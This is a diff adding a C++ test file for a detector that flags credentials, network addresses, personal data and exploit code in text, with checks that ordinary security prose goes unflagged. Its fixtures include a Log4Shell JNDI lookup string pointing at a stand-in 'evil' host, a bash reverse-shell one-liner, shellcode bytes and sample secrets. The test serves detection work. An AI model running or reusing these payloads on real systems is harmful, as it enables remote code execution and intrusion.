@@ -1,0 +1,57 @@
+#include "gate/content_signs.h"
+
+#include <doctest/doctest.h>
+
+using namespace sluice;
+using gate::signs_in;
+
+namespace {
+std::string kinds_in(std::string_view text) {
+  std::string out;
+  for (const auto& one : signs_in(text)) out += (out.empty() ? "" : " ") + one.kind + ":" + one.proposes + "@" + std::to_string(one.line);
+  return out;
+}
+struct Row { const char* text; const char* signs; };
+}  // namespace
+
+TEST_CASE("likely exploit code, secrets, addresses and data of persons are found, with the line") {
+  static constexpr Row kRows[] = {
+      {"first\n-----BEGIN RSA PRIVATE KEY-----\nMIIE", "credential:leaked-data@2"},
+      {"key AKIAIOSFODNN7EXAMPLE in the log", "credential:leaked-data@1"},
+      {"Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", "credential:leaked-data@1"},
+      {"password = \"tr0ub4dor&3\"", "credential:leaked-data@1"},
+      {"api_key: 9f8a7b6c5d4e3f2a", "credential:leaked-data@1"},
+      {"the host 10.20.30.40 answers", "network-address:network-detail@1"},
+      {"from 8.8.4.4 to fe80:0:0:0:1:2:3:4", "network-address:network-detail@1"},
+      {"written by ana.lopez@acme.com", "personal-data:leaked-data@1"},
+      {"card 4111 1111 1111 1111 was shown", "personal-data:leaked-data@1"},
+      {"GET /?x=${jndi:ldap://evil/a}", "exploit-code:poc@1"},
+      {"bash -i >& /dev/tcp/h/4444 0>&1", "exploit-code:exploit-tool@1"},
+      {"buf = '\\x90\\x90\\x90\\x90\\x31\\xc0\\x50\\x68'", "exploit-code:poc@1"},
+      {"a\nb\nfrom pwn import *", "exploit-code:poc@3"},
+  };
+  for (const auto& row : kRows) CHECK(kinds_in(row.text) == row.signs);
+}
+
+TEST_CASE("what is written about attacks every day is no sign") {
+  static constexpr const char* kQuiet[] = {
+      "", "A buffer overflow in the parser lets an attacker run code.", "Fixed in version 2.17.1.0.", "Upgrade to v10.2.3.4 of the firmware.", "All releases before 1.2.3.4 are affected.",
+      "Use 192.0.2.7 or 2001:db8::1 in examples.", "It listens on 127.0.0.1 and 0.0.0.0.", "Write to security@acme.com or ana@example.org.", "pkg:npm/left-pad@1.3.0", "user@4.2",
+      "password: <your password>", "password = changeme1", "The field password: required", "PASSWORD=${DB_PASSWORD1}", "reset your password", "CVE-2021-44228 and CVE-2021-45046", "call 4000 000 000",
+      "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "2026-11-29T12:00:00Z", "12:34:56", "std::vector<int>", "1234567890123456", "the regex \\x41 matches A", "We used ysoserial to test.",
+      "SELECT name FROM users", "The include path is /etc/passwd.d", "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H", "oid 1.3.6.1.4.1", "-----BEGIN PUBLIC KEY-----", "-----BEGIN PGP SIGNATURE-----",
+  };
+  for (const auto* text : kQuiet) CHECK_MESSAGE(kinds_in(text) == "", text);
+}
+
+TEST_CASE("a sign never repeats what it found, and a huge text has a bounded number of them") {
+  for (const auto& one : signs_in("password = \"tr0ub4dor&3\"")) CHECK(one.what.find("tr0ub") == std::string::npos);
+  std::string many;
+  for (int i = 0; i < 5'000; ++i) many += "host 10.1." + std::to_string(i % 200) + "." + std::to_string(i % 250) + "\n";
+  CHECK(signs_in(many).size() <= gate::kMostSigns);
+  std::string dotted;
+  for (int i = 0; i < 500'000; ++i) dotted += "a.";
+  CHECK(signs_in(dotted).empty());
+  const std::string nothing(3 << 20, '9');
+  CHECK(signs_in(nothing).empty());
+}
